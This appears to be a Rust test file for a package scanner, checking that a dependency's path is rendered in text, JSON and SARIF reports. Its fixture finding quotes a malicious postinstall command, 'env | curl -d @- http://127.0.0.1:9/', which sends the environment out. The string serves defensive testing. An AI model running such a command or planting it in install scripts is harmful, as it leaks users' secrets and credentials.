//! A dependency of a scanned project carries the path that pulls it in, in
//! every format: `via: app > a > b` in text, `dependency_path` in JSON,
//! `properties.dependencyPath` on SARIF results.

use palisade_diagnostics::render::{Format, RenderOptions, render};
use palisade_diagnostics::{Finding, PackageReport, Report, ScanStats, Verdict};

fn report() -> Report {
    let mut findings = vec![
        Finding::new(
            "manifest/install-script-env-dump",
            palisade_diagnostics::Severity::Critical,
            "`postinstall` script sends the environment out: `env | curl -d @- http://127.0.0.1:9/`",
        )
        .at_install_time(true),
    ];
    let (verdict, score) = Verdict::decide(&mut findings);
    Report {
        packages: vec![PackageReport {
            name: "bravo".to_owned(),
            version: "2.0.0".to_owned(),
            source: "bravo@2.0.0".to_owned(),
            integrity: None,
            verdict,
            score,
            findings,
            stats: ScanStats::default(),
            facts: None,
            cached: false,
            dependency_path: vec!["app".to_owned(), "alpha".to_owned(), "bravo".to_owned()],
        }],
        ..Report::default()
    }
}

fn rendered(format: Format) -> String {
    let text = render(&report(), format, RenderOptions::default());
    text.replace(env!("CARGO_PKG_VERSION"), "[version]")
}

#[test]
fn text_shows_the_path() {
    let text = rendered(Format::Text);
    assert!(text.contains("  via: app > alpha > bravo\n"), "{text}");
    insta::assert_snapshot!("dependency_path_text", text);
}

#[test]
fn json_carries_the_path() {
    let json = rendered(Format::Json);
    let v: serde_json::Value = serde_json::from_str(&json).expect("JSON");
    assert_eq!(
        v["packages"][0]["dependency_path"],
        serde_json::json!(["app", "alpha", "bravo"])
    );
    insta::assert_snapshot!("dependency_path_json", json);
}

#[test]
fn sarif_results_carry_the_path() {
    let sarif = rendered(Format::Sarif);
    let v: serde_json::Value = serde_json::from_str(&sarif).expect("JSON");
    assert_eq!(
        v["runs"][0]["results"][0]["properties"]["dependencyPath"],
        "app > alpha > bravo"
    );
    insta::assert_snapshot!("dependency_path_sarif", sarif);
}

#[test]
fn packages_scanned_alone_have_no_path() {
    let mut r = report();
    r.packages[0].dependency_path.clear();
    let text = render(&r, Format::Text, RenderOptions::default());
    assert!(!text.contains("via:"), "{text}");
    let json = render(&r, Format::Json, RenderOptions::default());
    assert!(!json.contains("dependency_path"), "{json}");
}
